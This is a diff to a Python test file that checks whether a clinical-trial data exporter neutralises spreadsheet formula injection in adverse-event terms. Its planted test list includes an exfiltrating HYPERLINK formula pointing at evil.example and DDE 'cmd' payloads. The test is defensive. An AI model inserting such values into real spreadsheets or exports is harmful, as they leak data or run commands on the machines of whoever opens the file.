@@ -11,10 +11,11 @@ from pathlib import Path
 import pytest
 
 from mescams.core.spreadsheet import FORMULA_TRIGGERS, cell, csv_text, neutralise, restore
-from mescams.interop._demo_snapshot import demo_snapshot
-from mescams.interop.analysis_folder import write_analysis_folder
+from mescams.interop.analysis_folder import analysis_tables
 from mescams.protocols import default_protocol
+from mescams.sim.demo_snapshot import simulated_snapshot
 from mescams.stats.analysis_data import read_analysis_data
+from mescams.stats.analysis_folder import write_analysis_folder
 
 # One planted term per OWASP form: =, +, -, @, tab, carriage return (and a quote, so the guard is reversible).
 PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -59,14 +60,16 @@ def _cells(folder: Path) -> list[str]:
 
 def test_analysis_folder_guards_planted_ae_terms_and_the_reader_reads_them_back(tmp_path: Path) -> None:
     protocol = default_protocol()
-    snapshot = demo_snapshot(protocol, seed=2015)
-    randomised = {p.participant_id for p in snapshot.randomized}
+    snapshot = simulated_snapshot(protocol, seed=2015)
+    randomised = {p.participant_id for p in snapshot.randomised}
     events = list(snapshot.adverse_events)
     slots = [i for i, e in enumerate(events) if e.participant_id in randomised][: len(PLANTED)]
     assert len(slots) == len(PLANTED)
     for i, text in zip(slots, PLANTED, strict=True):
         events[i] = dataclasses.replace(events[i], term=text)
-    folder = write_analysis_folder(protocol, dataclasses.replace(snapshot, adverse_events=tuple(events)), tmp_path)
+    folder = tmp_path / "analysis_data"
+    planted = dataclasses.replace(snapshot, adverse_events=tuple(events))
+    write_analysis_folder(analysis_tables(protocol, planted), folder)
     cells = _cells(folder)
     assert [c for c in cells if spreadsheet_would_run(c)] == []
     assert not [c for c in cells if c.startswith("'") and c not in {neutralise(t) for t in PLANTED}]
